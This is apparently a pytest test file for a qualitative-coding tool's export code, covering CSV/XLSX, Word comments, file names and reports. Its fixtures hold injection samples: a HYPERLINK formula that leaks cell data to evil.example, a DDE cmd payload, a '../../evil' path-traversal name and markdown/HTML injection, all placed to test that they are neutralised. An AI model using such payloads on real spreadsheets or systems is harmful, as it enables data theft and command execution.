"""coder_assist.app.export on a tiny hand-made project (no model): the codings frame, formula-safe
CSV/XLSX, Word comments anchored on their passages, safe file names, and the report."""

from __future__ import annotations

import csv
import re
import shutil
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from docx import Document
from openpyxl import load_workbook

from coder_assist.app import export, review
from coder_assist.formats import report, tables, word
from coder_assist.core.template import parse_template
from coder_assist.core.errors import InputError, ProjectError
from coder_assist.core.transcript import Transcript
from coder_assist.formats.transcripts import parse_speaker_text
from coder_assist.core.segment import Segmenter
from coder_assist.store.project import Project

TEMPLATE = {
    "name": "Tiny",
    "codes": [  # Enablers first: template order is not alphabetical order
        {"name": "Enablers", "children": [
            {"name": "Listening", "description": "Heard.", "examples": ["They listened."]},
        ]},
        {"name": "Barriers", "children": [
            {"name": "Money", "description": "Funding is short.", "examples": ["The budget was cut."]},
            {"name": "Time", "description": "No time.", "examples": ["We never have time."]},
        ]},
    ],
}
MONEY, TIME, LISTEN = "barriers/money", "barriers/time", "enablers/listening"

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me") was on the flyer.',
    "+cmd|' /C calc'!A0 is what they typed.",
    "-2+3 said the spreadsheet.",
    "@SUM(A1:A9) was the total\x01 they quoted.",
]
T1 = "Interviewer: How did it go?\n\nP1: " + " ".join(HOSTILE) + " The budget was cut again. We had no time.\n"
T2 = "Interviewer: And then?\n\nP2: They listened to us in the end. The budget was tight.\n"
T3 = "Interviewer: Anything else?\n\nP3: Nothing much. It was fine.\n"
EVIL = "../../evil"


def _transcript(name: str, text: str, **attrs) -> Transcript:
    return Transcript(name, text, parse_speaker_text(text, name), attributes=attrs)


@pytest.fixture(scope="module")
def base(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("export") / "proj"
    p = Project.create(folder, parse_template(TEMPLATE, source="test"))
    seg = Segmenter(unit="sentence")
    ts = [
        _transcript("t1", T1, sector="=1+1", level="senior"),
        _transcript(EVIL, T2, sector="B", level="junior"),
        _transcript("t3", T3, sector="B", level="senior"),
    ]
    p.add_transcripts(ts, {t.name: seg.segments(t) for t in ts})
    segs = p.segments()
    mv = p.add_model_version("test", "none")
    rows = [{"segment_id": int(s.id), "code_id": code, "rank": 1, "confidence": conf, "similarity": conf, "evidence": "e",
             "evidence_source": "x", "evidence_similarity": conf}
            for s, (code, conf) in zip(segs.itertuples(), [(MONEY, 0.9), (TIME, 0.8), (LISTEN, 0.7), (MONEY, 0.6), (TIME, 0.5),
                                                            (MONEY, 0.4), (TIME, 0.3), (LISTEN, 0.2), (MONEY, 0.15), (TIME, 0.1)])]
    p.add_suggestions(mv, pd.DataFrame(rows))
    p.close()
    return folder


@pytest.fixture
def project(base, tmp_path) -> Project:
    dest = tmp_path / "proj"
    shutil.copytree(base, dest)
    p = Project.open(dest)
    yield p
    p.close()


def _sugg(p: Project) -> pd.DataFrame:
    return p.suggestions().sort_values("confidence", ascending=False).reset_index(drop=True)


def _decide(p: Project) -> dict:
    """Alex and Bea accept the top suggestion, Alex rejects the second, accepts-then-undoes the
    third, skips the fourth; a coder named like a formula codes a passage by hand."""
    s = _sugg(p)
    top, second, third, fourth = (s.iloc[i] for i in range(4))
    review.decide(p, int(top.suggestion_id), "accept", "Alex")
    review.decide(p, int(top.suggestion_id), "accept", "Bea")
    review.decide(p, int(second.suggestion_id), "reject", "Alex")
    review.decide(p, int(third.suggestion_id), "accept", "Alex")
    review.undo_last(p, "Alex")
    review.decide(p, int(fourth.suggestion_id), "skip", "Alex")
    t3 = p.segments()[lambda d: d["transcript"] == "t3"].iloc[0]
    review.add_code(p, int(t3.id), LISTEN, "=cmd")
    return {"top": top, "second": second, "third": third, "fourth": fourth, "manual": int(t3.id)}


# --------------------------------------------------------------------------- the frame


def test_accepted_frame_has_one_row_per_coder_decision(project):
    d = _decide(project)
    f = export.codings_frame(project)
    assert list(f.columns[:3]) == ["transcript", "level", "sector"]  # attributes right after the transcript
    assert set(f["status"]) == {"accepted"}
    got = sorted(zip(f["segment_id"], f["code_id"], f["coder"]))
    assert got == sorted([(int(d["top"].segment_id), d["top"].code_id, "Alex"), (int(d["top"].segment_id), d["top"].code_id, "Bea"),
                          (d["manual"], LISTEN, "=cmd")])
    top = f[f["coder"] == "Alex"].iloc[0]
    assert top["confidence"] == pytest.approx(0.9) and top["model_version"] == 1 and top["origin"] == "suggestion"
    assert top["code_path"] == "Barriers > Money" and top["text"] == d["top"].text
    manual = f[f["coder"] == "=cmd"].iloc[0]
    assert manual["origin"] == "by hand" and pd.isna(manual["confidence"]) and manual["transcript"] == "t3"
    assert f["confidence"].dtype == "float64" and f["start"].dtype == "int64"


def test_suggested_are_the_undecided_suggestions_of_the_active_model(project):
    d = _decide(project)
    f = export.codings_frame(project, include="suggested")
    sugg = f[f["status"] == "suggested"]
    pairs = set(zip(sugg["segment_id"], sugg["code_id"]))
    assert (int(d["top"].segment_id), d["top"].code_id) not in pairs  # accepted
    assert (int(d["second"].segment_id), d["second"].code_id) not in pairs  # rejected
    assert (int(d["third"].segment_id), d["third"].code_id) in pairs  # accept undone
    assert (int(d["fourth"].segment_id), d["fourth"].code_id) in pairs  # skipped is not decided
    assert len(sugg) == len(project.suggestions()) - 2
    assert set(sugg["coder"]) == {""} and set(sugg["origin"]) == {"machine"} and (sugg["model_version"] == 1).all()
    assert set(f.loc[f["status"] == "accepted", "coder"]) == {"Alex", "Bea", "=cmd"}

    above = export.codings_frame(project, include="suggested", threshold=0.5)
    assert sorted(above.loc[above["status"] == "suggested", "confidence"]) == pytest.approx([0.5, 0.6, 0.7])

    every = export.codings_frame(project, include="all")
    rej = every[every["status"] == "rejected"]
    assert list(zip(rej["segment_id"], rej["code_id"], rej["coder"])) == [(int(d["second"].segment_id), d["second"].code_id, "Alex")]


def test_a_new_model_version_replaces_the_old_suggestions(project):
    _decide(project)
    mv2 = project.add_model_version("test2", "none")
    seg = int(project.segments().iloc[-1]["id"])
    project.add_suggestions(mv2, pd.DataFrame([{"segment_id": seg, "code_id": LISTEN, "rank": 1, "confidence": 0.55, "similarity": 0.5,
                                                 "evidence": "e", "evidence_source": "x", "evidence_similarity": 0.5}]))
    sugg = export.codings_frame(project, include="suggested").query("status == 'suggested'")
    assert list(zip(sugg["segment_id"], sugg["code_id"], sugg["model_version"])) == [(seg, LISTEN, mv2)]


def test_bad_scope_or_threshold_is_refused(project):
    with pytest.raises(ProjectError, match="unknown scope"):
        export.codings_frame(project, include="everything")
    with pytest.raises(ProjectError, match="threshold"):
        export.codings_frame(project, include="suggested", threshold=1.5)
    with pytest.raises(ProjectError, match="unknown export format"):
        export.export(project, "pdf", project.folder / "x.pdf")


def test_empty_project_exports_an_empty_frame_with_all_columns(project):
    f = export.codings_frame(project)
    assert f.empty and {"transcript", "sector", "status", "coder", "confidence"} <= set(f.columns)


# --------------------------------------------------------------------------- spreadsheets


@pytest.mark.parametrize("value,expected", [
    ("=1+1", "'=1+1"), ("+44 20", "'+44 20"), ("-x", "'-x"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("plain", "plain"), ("a=b", "a=b"), ("", ""), (-0.5, -0.5), (3, 3), (None, None),
])
def test_neutralise(value, expected):
    assert tables.neutralise(value) == expected


def test_spreadsheet_safe_keeps_numeric_columns_numeric():
    df = pd.DataFrame({"score": [-0.5, 1.0], "note": ["-0.5", "ok"], "n": pd.array([-1, None], dtype="Int64")})
    safe = tables.spreadsheet_safe(df)
    assert safe["score"].tolist() == [-0.5, 1.0] and safe["score"].dtype == "float64"
    assert safe["note"].tolist() == ["'-0.5", "ok"]
    assert safe["n"].iloc[0] == -1


def _hostile_rows(f: pd.DataFrame) -> pd.DataFrame:
    return f[f["text"].str.startswith(tables.FORMULA_PREFIXES)]


def test_csv_neutralises_hostile_cells(project, tmp_path):
    _decide(project)
    f = export.codings_frame(project, include="suggested")
    assert len(_hostile_rows(f)) >= 3  # the premise: transcript passages that start like formulas
    path = export.write_csv(f, tmp_path / "out" / "codings.csv")
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    header, body = rows[0], rows[1:]
    assert header == list(f.columns) and len(body) == len(f)
    text_cols = [i for i, c in enumerate(header) if c not in ("segment_id", "start", "end", "confidence", "model_version", "decision_id")]
    for row in body:
        for i in text_cols:
            assert not row[i].startswith(tables.FORMULA_PREFIXES), (header[i], row[i])
    conf = header.index("confidence")
    assert all(float(r[conf]) > 0 for r in body if r[conf])
    assert any(r[header.index("sector")] == "'=1+1" for r in body) and any(r[header.index("coder")] == "'=cmd" for r in body)
    assert any(r[header.index("text")].startswith("'=HYPERLINK(") for r in body)


def test_xlsx_has_no_formula_and_keeps_numbers(project, tmp_path):
    _decide(project)
    path = tmp_path / "codings.xlsx"
    res = export.export(project, "xlsx", path, include="suggested")
    assert res.paths == [path] and res.rows > 0
    wb = load_workbook(path)  # formulas would load as "=..." strings with data_type "f"
    assert wb.sheetnames == ["Codings", "Codes", "About"]
    n_cells = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                n_cells += 1
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(tables.FORMULA_PREFIXES), (ws.title, cell.coordinate, cell.value)
                    assert "\x01" not in cell.value
    assert n_cells > 100
    ws = wb["Codings"]
    header = [c.value for c in ws[1]]
    conf_col, start_col, text_col = header.index("confidence"), header.index("start"), header.index("text")
    values = list(ws.iter_rows(min_row=2, values_only=True))
    assert len(values) == res.rows
    assert all(isinstance(r[start_col], int) for r in values)
    assert all(isinstance(r[conf_col], float) for r in values if r[conf_col] is not None)
    assert any(r[text_col].startswith("'=HYPERLINK(") for r in values)
    assert any("was the total they quoted" in r[text_col] for r in values)  # control character dropped, text kept


# --------------------------------------------------------------------------- Word


@pytest.mark.parametrize("name,expected", [
    ("../../evil", "evil.docx"), ("a/b\\c", "a_b_c.docx"), ("..", "transcript.docx"), ("CON", "_CON.docx"),
    ("Interview 1 (final)", "Interview 1 _final.docx"), ("   ", "transcript.docx"), ("x" * 300, "x" * 100 + ".docx"),
])
def test_safe_filename(name, expected):
    assert tables.safe_filename(name, ".docx") == expected


def _comment_anchors(doc) -> dict[str, str]:
    """Comment id -> the document text between its range start and end."""
    w = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
    open_ids: set[str] = set()
    text: dict[str, str] = {}
    for el in doc.element.body.iter():
        if el.tag == w + "commentRangeStart":
            open_ids.add(el.get(w + "id"))
            text[el.get(w + "id")] = ""
        elif el.tag == w + "commentRangeEnd":
            open_ids.discard(el.get(w + "id"))
        elif el.tag == w + "t":
            for i in open_ids:
                text[i] += el.text or ""
    return text


def test_docx_comments_anchor_codings_with_coder_as_author(project, tmp_path):
    _decide(project)
    f = export.codings_frame(project, include="suggested")
    out = tmp_path / "exports" / "word"
    paths = export.write_docx(project, f, out)
    assert sorted(p.name for p in paths) == ["evil.docx", "t1.docx", "t3.docx"]
    assert all(p.parent == out.resolve() for p in paths)
    assert not list(tmp_path.glob("evil*")) and not list((tmp_path / "exports").glob("evil*"))

    doc = Document(str(out / "t1.docx"))
    rows = f[f["transcript"] == "t1"]
    comments = {str(c.comment_id): c for c in doc.comments}
    assert len(comments) == len(rows)
    anchors = _comment_anchors(doc)
    expected = sorted((r.coder if r.status == "accepted" else word.MACHINE_AUTHOR.format(mv=1), r.text.replace("\x01", ""))
                      for r in rows.itertuples())
    assert sorted((c.author, anchors[cid]) for cid, c in comments.items()) == expected
    machine = [c for c in comments.values() if "machine suggestion" in c.author]
    assert machine and all(c.text.startswith("Machine suggestion") for c in machine)
    everywhere = [(c.author, c.text) for p in paths for c in Document(str(p)).comments]
    assert ("Alex", "Barriers > Money") in everywhere and ("Bea", "Barriers > Money") in everywhere
    # The transcript reads as it was: every turn, speakers first.
    body = "\n".join(p.text for p in doc.paragraphs)
    assert "P1: =HYPERLINK(" in body and "We had no time." in body

    hand = Document(str(out / "t3.docx"))
    assert [c.text for c in hand.comments if c.author == "=cmd"] == ["Enablers > Listening (coded by hand)"]


def test_docx_zip_and_single_file(project, tmp_path):
    _decide(project)
    res = export.export(project, "docx", tmp_path / "all.zip")
    with zipfile.ZipFile(res.paths[0]) as zf:
        names = zf.namelist()
    assert sorted(names) == ["evil.docx", "t1.docx", "t3.docx"]
    with pytest.raises(InputError, match="give a folder or a .zip"):
        export.export(project, "docx", tmp_path / "one.docx")
    res = export.export(project, "docx", tmp_path / "one.docx", transcripts=[EVIL])
    one = Document(str(tmp_path / "one.docx"))
    assert res.paths == [tmp_path / "one.docx"] and sorted(c.author for c in one.comments) == ["Alex", "Bea"]
    with pytest.raises(ProjectError, match="no transcript named 'nope'"):
        export.export(project, "docx", tmp_path / "x", transcripts=["nope"])


def test_name_clashes_after_sanitising_get_distinct_files():
    assert tables.unique_names(["a/b", "a_b", "A_B"], ".docx") == ["a_b.docx", "a_b-2.docx", "A_B-3.docx"]


# --------------------------------------------------------------------------- report


def test_report_matrix_counts_and_shares(project, tmp_path):
    d = _decide(project)
    f = export.codings_frame(project)
    rep = export.build_report(project, f, ["sector"])
    # Cells: sector "=1+1" (t1) and "B" (../../evil, t3). Codings: top suggestion (Alex and Bea,
    # one passage) and LISTEN by hand in t3.
    top_t = project.segments().set_index("id").loc[int(d["top"].segment_id), "transcript"]
    top_cell = "=1+1" if top_t == "t1" else "B"
    assert list(rep.cell_sizes.index) == ["=1+1", "B"] and rep.cell_sizes.tolist() == [1, 2]
    money = rep.counts.loc["Barriers > Money"]
    assert money[top_cell] == 1 and money.sum() == 1  # two coders, one passage
    assert rep.counts.loc["Enablers > Listening"].tolist() == [0, 1]
    assert rep.shares.loc["Enablers > Listening"].tolist() == pytest.approx([0.0, 0.5])
    assert rep.counts.loc["Barriers > Time"].tolist() == [0, 0]  # present though never coded
    freq = rep.frequencies.set_index("code_id")
    assert freq.loc[MONEY, ["passages", "codings", "transcripts"]].tolist() == [1, 2, 1]
    assert freq.loc[LISTEN, "share_of_transcripts"] == pytest.approx(round(1 / 3, 3))
    assert list(rep.quotes["code_id"].unique()) == [LISTEN, MONEY]  # template order, not alphabetical
    assert rep.quotes.set_index("code_id").loc[MONEY, "coder_names"] == "Alex, Bea"

    out = export.write_report(project, f, tmp_path / "report", ["sector", "level"])
    names = sorted(p.name for p in out.iterdir())
    assert names == ["code_frequencies.csv", "heatmap.png", "matrix_counts.csv", "matrix_share.csv", "quotes.csv", "report.md"]
    assert (out / "heatmap.png").read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    counts = pd.read_csv(out / "matrix_counts.csv", encoding="utf-8-sig")
    assert list(counts.columns[:2]) == ["code_id", "code_path"]
    assert "'=1+1 / senior" in counts.columns  # a column header is a cell too
    md = (out / "report.md").read_text(encoding="utf-8")
    assert "## Codes × sector × level" in md and "![Heatmap" in md
    assert "machine suggestion" not in md.lower()  # accepted scope: no suggestion column, no label


def test_report_labels_machine_suggestions_and_escapes_markdown(project, tmp_path):
    _decide(project)
    f = export.codings_frame(project, include="suggested")
    rep = export.build_report(project, f, ["sector"])
    assert rep.scope["suggested_passages"] == len(f[f["status"] == "suggested"])
    assert set(rep.quotes["status"]) == {"accepted", "suggested"}
    md = report.report_markdown(rep, project_name="p")
    assert "Includes" in md and "*machine suggestion*" in md
    evil = report.md_escape('see [x](http://evil.example/t.png) <img src=x> **b** | c')
    assert not re.search(r"(?<!\\)[\[\]<>|*]", evil)  # every bracket, tag, pipe and star is escaped
    assert evil.replace("\\", "") == 'see [x](http://evil.example/t.png) <img src=x> **b** | c'


def test_report_with_unknown_attribute_names_what_there_is(project):
    with pytest.raises(ProjectError, match="no attribute 'nope' .*level, sector"):
        export.build_report(project, export.codings_frame(project), ["nope"])


def test_report_without_attributes_has_one_cell(project, tmp_path):
    _decide(project)
    rep = export.build_report(project, export.codings_frame(project), [])
    assert list(rep.counts.columns) == [report.ALL_CELL] and rep.cell_sizes.tolist() == [3]
    report.heatmap(rep, tmp_path / "h.png")
    assert (tmp_path / "h.png").stat().st_size > 1000


def test_docx_comments_carry_the_decision_time(project, tmp_path):
    _decide(project)
    # Back-date the decisions: an export made now must still say when each was decided.
    project.conn.execute("UPDATE decisions SET created_at = '2024-03-05T10:20:30.000+00:00' WHERE coder = 'Alex'")
    project.conn.execute("UPDATE decisions SET created_at = '2024-06-07T08:09:10.500+00:00' WHERE coder = 'Bea'")
    project.conn.commit()
    f = export.codings_frame(project, include="suggested")
    paths = export.write_docx(project, f, tmp_path / "word")
    stamps = {(c.author, c.timestamp) for p in paths for c in Document(str(p)).comments}
    import datetime as dt

    utc = dt.timezone.utc
    assert ("Alex", dt.datetime(2024, 3, 5, 10, 20, 30, tzinfo=utc)) in stamps
    assert ("Bea", dt.datetime(2024, 6, 7, 8, 9, 10, tzinfo=utc)) in stamps
    by_author = {a for a, t in stamps if t is not None and t.year == 2024}
    assert {"Alex", "Bea"} <= by_author
    # Machine suggestions carry the time their model version was made, not the export's.
    made = {int(v): t for v, t in project.conn.execute("SELECT id, created_at FROM model_versions")}
    machine = [t for a, t in stamps if "machine suggestion" in a]
    assert machine and all(t == word._comment_time(made[1]) for t in machine)


# --------------------------------------------------------------------------- codings are spans


def test_span_codings_export_at_their_offsets_in_csv_xlsx_and_word(project, tmp_path):
    """A hand-coded phrase, a span across two passages and an accepted suggestion: CSV and XLSX
    carry each coding's own start/end and exactly that text; the Word comment is anchored on
    exactly the span, not on the passage it is attached to."""
    tid = int(project.transcripts().set_index("name").loc["t1", "id"])
    text = project.transcript_text(tid)
    segs = project.segments(tid).sort_values("start")
    a, b = segs.iloc[-2], segs.iloc[-1]
    phrase = text.index("budget was cut again")
    project.add_coding(tid, phrase, phrase + len("budget was cut again"), MONEY, "Alex")
    across = (int(a.start) + 3, int(b.start) + 6)  # from inside one passage to inside the next
    project.add_coding(tid, *across, TIME, "Bea")
    f = export.codings_frame(project)
    rows = f[f["transcript"] == "t1"]
    got = sorted((r.coder, r.code_id, r.start, r.end, r.text, r.origin) for r in rows.itertuples())
    assert got == sorted([
        ("Alex", MONEY, phrase, phrase + 20, "budget was cut again", "by hand"),
        ("Bea", TIME, across[0], across[1], text[across[0]:across[1]], "by hand"),
    ])
    assert all(len(r.text) < len(text[int(a.start):int(b.end)]) for r in rows.itertuples())

    with open(export.write_csv(f, tmp_path / "c.csv"), encoding="utf-8-sig", newline="") as fh:
        csv_rows = [r for r in csv.DictReader(fh) if r["transcript"] == "t1"]
    assert sorted((r["coder"], int(r["start"]), int(r["end"]), r["text"]) for r in csv_rows) == sorted(
        [("Alex", phrase, phrase + 20, "budget was cut again"), ("Bea", across[0], across[1], text[across[0]:across[1]])])

    ws = load_workbook(export.write_xlsx(f, tmp_path / "c.xlsx"))["Codings"]
    head = [c.value for c in ws[1]]
    cells = [dict(zip(head, [c.value for c in r])) for r in ws.iter_rows(min_row=2)]
    assert sorted((r["coder"], r["start"], r["end"], r["text"]) for r in cells if r["transcript"] == "t1") == sorted(
        [("Alex", phrase, phrase + 20, "budget was cut again"), ("Bea", across[0], across[1], text[across[0]:across[1]])])

    doc = Document(str(export.write_docx(project, f, tmp_path / "t1.docx", transcripts=["t1"])[0]))
    anchors = _comment_anchors(doc)
    by_author = {c.author: anchors[str(c.comment_id)] for c in doc.comments}
    assert by_author["Alex"] == "budget was cut again"
    # Across passages of one turn the anchor is the span's text exactly (one paragraph a turn).
    assert by_author["Bea"] == text[across[0]:across[1]]


def test_accepted_suggestion_keeps_the_passage_span_and_a_reject_withdraws_a_span(project):
    s = _sugg(project).iloc[0]
    review.decide(project, int(s.suggestion_id), "accept", "Alex")
    f = export.codings_frame(project)
    row = f[f["decision_id"] == f["decision_id"].max()].iloc[0]
    seg = project.segments().set_index("id").loc[int(s.segment_id)]
    assert (row.start, row.end, row.text, row.origin) == (int(seg.start), int(seg.end), seg.text, "suggestion")
    tid = int(project.transcripts().set_index("name").loc[seg.transcript, "id"])
    project.add_coding(tid, int(seg.start), int(seg.start) + 5, TIME, "Alex")
    assert len(export.codings_frame(project)) == 2
    review.remove_code(project, int(s.segment_id), TIME, "Alex")
    f = export.codings_frame(project, include="all")
    assert sorted(f.loc[f["status"] != "suggested", "status"]) == ["accepted", "rejected"]
    assert (f.loc[f["status"] == "rejected", "code_id"] == TIME).all()


def test_two_spans_of_one_code_by_one_coder_on_one_passage_are_two_rows(project):
    tid = int(project.transcripts().set_index("name").loc["t3", "id"])
    text = project.transcript_text(tid)
    a, b = text.index("Nothing"), text.index("fine")
    project.add_coding(tid, a, a + 7, MONEY, "Alex")
    project.add_coding(tid, b, b + 4, MONEY, "Alex")  # the same passage: current_decisions shows only this one
    f = export.codings_frame(project)
    assert f[["start", "end", "text", "origin"]].values.tolist() == [[a, a + 7, "Nothing", "by hand"], [b, b + 4, "fine", "by hand"]]
